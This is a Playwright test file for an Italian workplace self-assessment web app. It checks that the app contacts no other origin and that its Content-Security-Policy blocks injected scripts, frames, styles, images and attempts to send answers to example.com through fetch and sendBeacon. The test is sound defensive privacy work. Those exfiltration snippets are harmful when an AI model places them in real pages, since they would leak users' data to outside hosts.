import { answer, askSomebody, openSection, writeNote } from './support/answering'
import { expect, test } from './support/journey'
import { goHome, saveCopy, startOrganisation } from './support/organisations'
import { downloadPdf, openDocument, openPlan, openResults } from './support/outcomes'

test('from the first screen to the PDF nothing is asked of another origin, and nothing is sent', async ({
  page,
  watched,
  baseURL,
}) => {
  const sent: string[] = []
  page.on('request', (request) => {
    if (request.method() !== 'GET' || request.postData()) sent.push(`${request.method()} ${request.url()}`)
  })
  await startOrganisation(page, 'Studio Verdi', { role: 'Titolare' })
  await openSection(page, 'Persone')
  await answer(page, 'Quante persone lavorano da voi?', 14)
  await openSection(page, 'Tempi di lavoro e flessibilità oraria')
  await askSomebody(page, 'Come decidete sulle richieste di part-time?', 'Ufficio del personale', '2026-12-18')
  await writeNote(page, 'Come decidete sulle richieste di part-time?', 'Ne parliamo lunedì')
  await page.getByText('Che cosa intendiamo').first().click()
  await expect(page.getByText('La regola di legge').first()).toBeVisible()
  await saveCopy(page)
  await openResults(page)
  await openPlan(page)
  await openDocument(page)
  await downloadPdf(page)
  for (const guide of ['punteggio', 'dati', 'accessibilita']) {
    await page.goto(`./#/${guide}`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  const home = new URL(baseURL ?? '').href
  expect(watched.requests.filter((address) => !address.startsWith(home) && !address.startsWith('blob:'))).toEqual([])
  expect(sent).toEqual([])
  expect(await page.context().cookies()).toEqual([])
})

test('the page forbids itself any other origin', async ({ page, watched }) => {
  await goHome(page)
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  expect(policy).toContain("default-src 'self'")
  expect(policy).not.toMatch(/https?:|\*|unsafe-inline|'unsafe-eval'/)

  const attempts = {
    image: () => {
      document.body.append(Object.assign(new Image(), { src: 'https://example.com/spia.png' }))
    },
    request: () => {
      fetch('https://example.com/raccolta', { method: 'POST', body: 'risposte' }).catch(() => {})
    },
    beacon: () => {
      navigator.sendBeacon('https://example.com/raccolta', 'risposte')
    },
    script: () => {
      document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/spia.js' }))
    },
    'script in the page': () => {
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.spia = true' }))
    },
    style: () => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.com/spia.css' }),
      )
    },
    frame: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }))
    },
  }
  for (const [what, attempt] of Object.entries(attempts)) {
    const blocked = page.evaluate(
      () =>
        new Promise<string>((resolve) =>
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
            once: true,
          }),
        ),
    )
    await page.evaluate(attempt)
    expect(await blocked, `${what}: stopped by`).toMatch(/-src/)
  }
  expect(await page.evaluate(() => 'spia' in window)).toBe(false)
  /** What the browser stopped it also notes down: here that is what was wanted. */
  watched.troubles.length = 0
  watched.elsewhere.length = 0
})
